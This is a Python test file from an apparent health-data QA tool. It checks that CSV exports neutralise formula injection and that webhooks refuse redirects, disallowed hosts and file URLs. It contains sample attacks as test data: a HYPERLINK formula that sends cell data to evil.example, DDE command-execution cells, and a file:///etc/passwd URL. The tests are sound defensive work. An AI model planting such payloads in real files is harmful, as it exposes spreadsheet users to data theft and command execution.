"""Publishing that cannot be turned against its own side: every CSV cell a spreadsheet would run as a
formula is neutralised (findings export, merge instructions, the demo's truth, one writer for all);
the webhook goes to its configured http(s) URL only (no redirect followed, an allow-list of hosts);
an SMTP password never crosses the network in clear unless the configuration says so."""

from __future__ import annotations

import csv
import io
import os
import re
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest

import healthqa
from healthqa.dedup.merge import Merge, write_all
from healthqa.errors import ConfigError
from healthqa.reports import publish

from ..core.test_config import GOOD, error_of
from .test_publish import Receiver, finding

ATTACKS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"详情\")", "=cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
           "-2+3", "+1+1", "\t=1+1", "\r=1+1"]


def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised():
    from healthqa import csvfile

    buf = io.StringIO()
    w = csvfile.DictWriter(buf, fieldnames=["v", "n"])
    w.writeheader()
    for a in ATTACKS:
        w.writerow({"v": a, "n": -2})
    w.writerow({"v": "张三 =not at the start", "n": 3})
    rows = list(csv.DictReader(io.StringIO(buf.getvalue())))
    assert [r["v"] for r in rows] == ["'" + a for a in ATTACKS] + ["张三 =not at the start"]
    assert {r["n"] for r in rows} == {"-2", "3"}  # numbers stay numbers


def test_the_findings_export_and_merge_instructions_carry_no_formula(tmp_path):
    rows = [finding(1, title_zh=ATTACKS[0], examples=["=cmd|' /C calc'!A0"], assignee="@SUM(1+1)"),
            finding(2, title_en="-2+3")]
    with open(publish.export(rows, tmp_path / "f.csv"), encoding="utf-8-sig", newline="") as fh:
        table = list(csv.DictReader(fh))
    cells = [v for r in table for v in r.values() if v]
    assert not [v for v in cells if v[0] in "=+-@\t\r"], cells
    assert table[0]["title_zh"] == "'" + ATTACKS[0] and table[1]["title_en"] == "'-2+3"
    # merges.csv, as `healthqa dedup` and the console's export write it (an archive number is the
    # source's text: an MPI may hold "-1024"; a steward's name is whatever the account was called)
    files = write_all([Merge("-1024", "33021100100100417", "2026-12-01T08:00:00+08:00", "-steward")], tmp_path / "m").files
    row, = csv.DictReader(files["csv"].open(encoding="utf-8"))
    assert row == {"survivor": "'-1024", "retired": "33021100100100417", "decided_at": "2026-12-01T08:00:00+08:00",
                   "decided_by": "'-steward", "basis": "", "kind": "", "kind_zh": ""}
    files = write_all([Merge("=HYPERLINK(\"x\")", "@A1")], tmp_path / "m").files
    row, = csv.DictReader(files["csv"].open(encoding="utf-8"))
    assert row["survivor"] == "'=HYPERLINK(\"x\")" and row["retired"] == "'@A1"


def test_every_csv_the_project_writes_goes_through_the_one_writer():
    root = Path(healthqa.__file__).parent
    offenders, seen = [], 0
    for folder, _, names in os.walk(root, followlinks=True):  # the rooms are links under healthqa/
        for name in names:
            if name.endswith(".py") and name != "csvfile.py":
                seen += 1
                if re.search(r"csv\.(writer|DictWriter)\(|\.to_csv\(", (Path(folder) / name).read_text(encoding="utf-8")):
                    offenders.append(name)
    assert seen > 100 and offenders == []


class Redirector:
    """An endpoint that answers every POST with a redirect to ``target``."""

    def __init__(self, target: str, code: int = 307):
        self.hits = 0
        outer = self

        class Handler(BaseHTTPRequestHandler):
            def do_POST(self):
                outer.hits += 1
                self.rfile.read(int(self.headers["Content-Length"]))
                self.send_response(code)
                self.send_header("Location", target)
                self.end_headers()

            def log_message(self, *a):
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        threading.Thread(target=self.server.serve_forever, daemon=True).start()
        self.url = f"http://127.0.0.1:{self.server.server_port}/hook"


@pytest.mark.parametrize("code", [301, 302, 303])  # urllib would follow these (307/308: never for a POST)
def test_the_webhook_follows_no_redirect(code):
    elsewhere = Receiver()
    hop = Redirector(elsewhere.url, code)
    try:
        d = publish.post_webhook(hop.url, {"findings": "masked"}, attempts=2, backoff_s=0.01)
        assert not d.ok and f"HTTP {code}" in d.detail  # not delivered: nothing 2xx from the configured URL
        assert elsewhere.requests == [] and hop.hits == 1  # nothing sent on, and a refusal is not retried
    finally:
        hop.server.shutdown()
        elsewhere.close()


def test_the_webhook_goes_only_to_allowed_hosts_over_http():
    rx = Receiver()
    try:
        d = publish.post_webhook(rx.url, {"x": 1}, allowed_hosts=["tickets.zh.example"])
        assert not d.ok and "allowed_hosts" in d.detail and rx.requests == []
        assert publish.post_webhook(rx.url, {"x": 1}, allowed_hosts=["127.0.0.1"]).ok
        d = publish.post_webhook("file:///etc/passwd", {"x": 1})
        assert not d.ok and "reports.webhook.url" in d.detail
    finally:
        rx.close()


@pytest.mark.parametrize("webhook, key", [
    ("{url: 'file:///etc/passwd'}", "reports.webhook.url"),
    ("{url: 'ftp://tickets.zh.example/in'}", "reports.webhook.url"),
    ("{url: 'https://evil.example/hook', allowed_hosts: [tickets.zh.example]}",
     "'evil.example' is not in reports.webhook.allowed_hosts"),
])
def test_a_webhook_url_that_is_not_allowed_is_a_config_error_naming_the_key(tmp_path, monkeypatch, webhook, key):
    monkeypatch.setenv("MPI_DB_URL", "sqlite:///mpi.db")
    msg = error_of(tmp_path, GOOD + f"reports:\n  webhook: {webhook}\n")
    assert key in msg, msg


def test_an_smtp_password_in_clear_needs_an_explicit_key(tmp_path, monkeypatch):
    from ..core.test_config import load_text

    monkeypatch.setenv("MPI_DB_URL", "sqlite:///mpi.db")
    mail = "reports:\n  mail: {host: smtp.zh.example, username: qa, password: s3cret, to: [a@zh.example]"
    msg = error_of(tmp_path, GOOD + mail + "}\n")
    assert "allow_plaintext_auth" in msg and "reports.mail" in msg, msg
    assert load_text(tmp_path, GOOD + mail + ", starttls: true}\n").reports.mail.starttls
    assert load_text(tmp_path, GOOD + mail + ", allow_plaintext_auth: true}\n").reports.mail.allow_plaintext_auth
    with pytest.raises(ConfigError):  # the key is a boolean, not anything
        load_text(tmp_path, GOOD + mail + ", allow_plaintext_auth: maybe}\n")
